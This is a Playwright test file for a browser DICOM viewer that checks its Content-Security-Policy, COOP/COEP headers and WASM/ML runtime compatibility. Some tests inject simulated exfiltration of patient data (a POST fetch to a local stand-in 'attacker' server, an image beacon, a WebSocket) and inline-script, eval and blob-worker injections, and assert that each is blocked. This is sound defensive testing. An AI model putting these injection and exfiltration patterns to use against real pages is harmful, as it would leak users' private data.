// The Content-Security-Policy is in the built output and is enforced: an injected off-origin fetch,
// an injected inline script, eval and a blob: worker are all refused; normal use triggers no violation.
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { openFiles } from './support/app.ts';
import { viewAllSeries } from './support/viewAllSeries.ts';
import { dicomSamples, repoRoot } from './support/paths.ts';

// These specs are about the service worker: let it run (the config blocks it elsewhere).
test.use({ serviceWorkers: 'allow' });

const distIndex = path.join(repoRoot, 'dist/index.html');

/** Records every securitypolicyviolation in the page (installed before any page script runs). */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__cspViolations.push(`${e.effectiveDirective} blocked ${e.blockedURI || '(inline)'} at ${e.sourceFile}:${e.lineNumber}`);
    });
  });
}
const violations = (page: Page) => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);

/** A server on another local port: the "attacker" origin. Counts what reaches it. */
async function otherOrigin(): Promise<{ url: string; hits: string[]; close: () => Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' });
    res.end('ok');
  });
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    hits,
    close: () => new Promise((r) => { server.closeAllConnections(); server.close(() => r()); }),
  };
}

test('the built index.html carries the CSP as a meta tag, before any script', () => {
  const html = fs.readFileSync(distIndex, 'utf8');
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/);
  expect(meta, 'dist/index.html has no CSP meta tag (run `npx vite build`)').not.toBeNull();
  const policy = meta![1].replaceAll('&#39;', "'");
  expect(policy).toContain("default-src 'self'");
  expect(policy).toContain("connect-src 'self'");
  expect(policy).toMatch(/script-src 'self' 'wasm-unsafe-eval'(;|$)/);
  expect(policy).toContain("object-src 'none'");
  expect(policy).not.toContain("'unsafe-eval'");
  expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/);
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
});

test('the server sends CSP (with frame-ancestors), COOP/COEP and CORP headers', async ({ page }) => {
  const response = await page.goto('/');
  const h = response!.headers();
  expect(h['content-security-policy']).toContain("connect-src 'self'");
  expect(h['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(h['cross-origin-opener-policy']).toBe('same-origin');
  expect(h['cross-origin-embedder-policy']).toBe('require-corp');
  expect(h['cross-origin-resource-policy']).toBe('same-origin');
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});

test('an injected off-origin fetch is blocked by CSP and never reaches the other server', async ({ page }) => {
  const other = await otherOrigin();
  try {
    await recordViolations(page);
    await page.goto('/');
    const result = await page.evaluate(async (target) => {
      const outcome: Record<string, string> = {};
      for (const url of [`${target}/exfiltrate?name=patient.dcm`, 'http://example.invalid/x']) {
        try {
          await fetch(url, { method: 'POST', body: 'pixels', mode: 'no-cors' });
          outcome[url] = 'sent';
        } catch (e) {
          outcome[url] = `blocked: ${(e as Error).name}`;
        }
      }
      // Image beacons and WebSockets are other classic exfiltration paths.
      await new Promise<void>((resolve) => {
        const img = new Image();
        img.onload = img.onerror = () => resolve();
        img.src = `${target}/beacon.gif?d=1`;
      });
      outcome.websocket = await new Promise<string>((resolve) => {
        try {
          const ws = new WebSocket(target.replace('http', 'ws') + '/socket');
          ws.onopen = () => resolve('opened');
          ws.onerror = () => resolve('blocked: error event');
        } catch (e) {
          resolve(`blocked: ${(e as Error).name}`);
        }
      });
      return outcome;
    }, other.url);
    for (const [url, outcome] of Object.entries(result)) expect(outcome, url).toMatch(/^blocked/);
    await expect.poll(() => violations(page)).toEqual(
      expect.arrayContaining([
        expect.stringContaining(`connect-src blocked ${other.url}/exfiltrate`),
        expect.stringContaining('connect-src blocked http://example.invalid/x'),
        expect.stringContaining(`img-src blocked ${other.url}/beacon.gif`),
      ]),
    );
    expect(other.hits).toEqual([]);
  } finally {
    await other.close();
  }
});

test('injected inline script, inline handlers, eval and blob: workers do not run', async ({ page }) => {
  await recordViolations(page);
  await page.goto('/');
  const ran = await page.evaluate(async () => {
    const w = window as unknown as Record<string, unknown>;
    const host = document.createElement('div');
    // Via innerHTML: an inline event handler (innerHTML <script> never runs anyway, so also try a real element).
    host.innerHTML = '<img src="data:," onerror="window.__inlineHandler = 1">';
    document.body.append(host);
    const s = document.createElement('script');
    s.textContent = 'window.__inlineScript = 1';
    document.head.append(s);
    // A string timer is eval: it must be refused. (A direct eval() here would prove nothing:
    // DevTools-protocol evaluation, which page.evaluate uses, is exempt from the eval check.)
    (setTimeout as unknown as (code: string, ms: number) => void)('window.__evalRan = 1', 0);
    let blobWorker = 'blocked';
    try {
      const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
      const worker = new Worker(url);
      blobWorker = await new Promise<string>((resolve) => {
        worker.onmessage = () => resolve('ran');
        worker.onerror = () => resolve('blocked');
        setTimeout(() => resolve('blocked'), 2000);
      });
    } catch {
      /* SecurityError: expected */
    }
    await new Promise((r) => setTimeout(r, 300));
    return { inlineHandler: w.__inlineHandler ?? null, inlineScript: w.__inlineScript ?? null, evalRan: w.__evalRan ?? null, blobWorker };
  });
  expect(ran).toEqual({ inlineHandler: null, inlineScript: null, evalRan: null, blobWorker: 'blocked' });
  const v = await violations(page);
  expect(v.some((x) => x.startsWith('script-src-elem blocked (inline)') || x.startsWith('script-src-elem blocked inline'))).toBe(true);
  expect(v.some((x) => x.startsWith('script-src-attr'))).toBe(true);
  expect(v.some((x) => x.startsWith('worker-src blocked blob'))).toBe(true);
  expect(v.some((x) => x.startsWith('script-src blocked eval'))).toBe(true);
});

test('opening and viewing real DICOM files (codec WASM included) causes no CSP violation', async ({ page }) => {
  const consoleCsp: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) consoleCsp.push(m.text());
  });
  page.on('worker', (w) =>
    w.on('console', (m) => {
      if (/Content Security Policy|Refused to/i.test(m.text())) consoleCsp.push(`worker: ${m.text()}`);
    }),
  );
  await recordViolations(page);
  await page.goto('/');
  // Uncompressed, JPEG baseline, JPEG-LS and JPEG 2000: the last three load WASM codecs.
  const files = [
    'covid19-ny-sbu-ct/A002304_axial_19010112-135.dcm',
    'ct-chest-transfer-syntaxes/CTImage.dcm_JPEGProcess1TransferSyntax_1.2.840.10008.1.2.4.50.dcm',
    'ct-chest-transfer-syntaxes/CTImage.dcm_JPEGLSLosslessTransferSyntax_1.2.840.10008.1.2.4.80.dcm',
    'ct-chest-transfer-syntaxes/CTImage.dcm_JPEG2000LosslessOnlyTransferSyntax_1.2.840.10008.1.2.4.90.dcm',
    'cr-dx-chest/gdcm-CR-MONO1-10-chest.dcm',
  ].map((f) => path.join(dicomSamples, f));
  await openFiles(page, files);
  await expect(page.getByRole('alert')).toHaveCount(0);
  expect(await viewAllSeries(page)).toBeGreaterThanOrEqual(files.length);
  await expect(page.getByTestId('load-error')).toHaveCount(0);
  expect(await violations(page)).toEqual([]);
  expect(consoleCsp).toEqual([]);
});

test('onnxruntime-web (WebGPU, multi-threaded WASM) and TFJS (webgpu, webgl, cpu) run under the CSP in the inference worker', async ({ page }) => {
  // Uses the runtime self-test page (built beside the app with the same CSP) and its tiny model.
  const refused: string[] = [];
  const watch = (where: string) => (m: { text(): string }) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) refused.push(`${where}: ${m.text()}`);
  };
  page.on('console', watch('page'));
  page.on('worker', (w) => w.on('console', watch(`worker ${w.url()}`)));
  await recordViolations(page);
  const response = await page.goto('/e2e/fixtures/runtime/runtime-test.html');
  expect(response!.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
  await page.waitForFunction(() => 'runtimeTest' in window);
  type Api = {
    start(k: string, m: string, p: string): Promise<{ backend: { engines: { engine: string; backend: string; description: string }[] } }>;
    run(k: string, id: string, input: string, d: number[], dims: number[]): Promise<{ outputs: Record<string, { data: number[] }> }>;
  };
  const input = Array.from({ length: 32 * 32 }, (_, i) => ((i * 37) % 255) / 255 - 0.5);
  for (const pref of ['webgpu', 'wasm'] as const) {
    const result = await page.evaluate(
      async ([p, d]) => {
        const api = (window as unknown as { runtimeTest: Api }).runtimeTest;
        const init = await api.start(p, './manifest.json', p);
        const out = await api.run(p, 'tiny-fp32', 'image', d, [1, 1, 32, 32]);
        const ort = init.backend.engines.find((e) => e.engine === 'ort-web');
        return { backend: ort?.backend, description: ort?.description, finite: Object.values(out.outputs).every((o) => o.data.every(Number.isFinite)) };
      },
      [pref, input] as const,
    );
    expect(result.backend, `${pref}: ${result.description}`).toBe(pref);
    expect(result.finite).toBe(true);
    if (pref === 'wasm') expect(result.description).toMatch(/WASM, [2-4] threads/); // threads need COOP/COEP + worker-src
  }
  // TFJS graph model on its three backends (WGSL / GLSL shader compilation is not script: no CSP source needed).
  const nhwc = input;
  for (const pref of ['webgpu', 'webgl', 'wasm'] as const) {
    const out = await page.evaluate(
      async ([p, d]) => {
        const api = (window as unknown as { runtimeTest: Api }).runtimeTest;
        await api.start(`tfjs-${p}`, './manifest.json', p);
        const r = (await api.run(`tfjs-${p}`, 'tiny-tfjs', 'image', d, [1, 32, 32, 1])) as { backend?: string; outputs: Record<string, { data: number[] }> };
        return { backend: r.backend, finite: Object.values(r.outputs).every((o) => o.data.length > 0 && o.data.every(Number.isFinite)) };
      },
      [pref, nhwc] as const,
    );
    expect(out.finite, `tfjs ${pref} (${out.backend})`).toBe(true);
  }
  expect(await violations(page)).toEqual([]);
  expect(refused).toEqual([]);
});
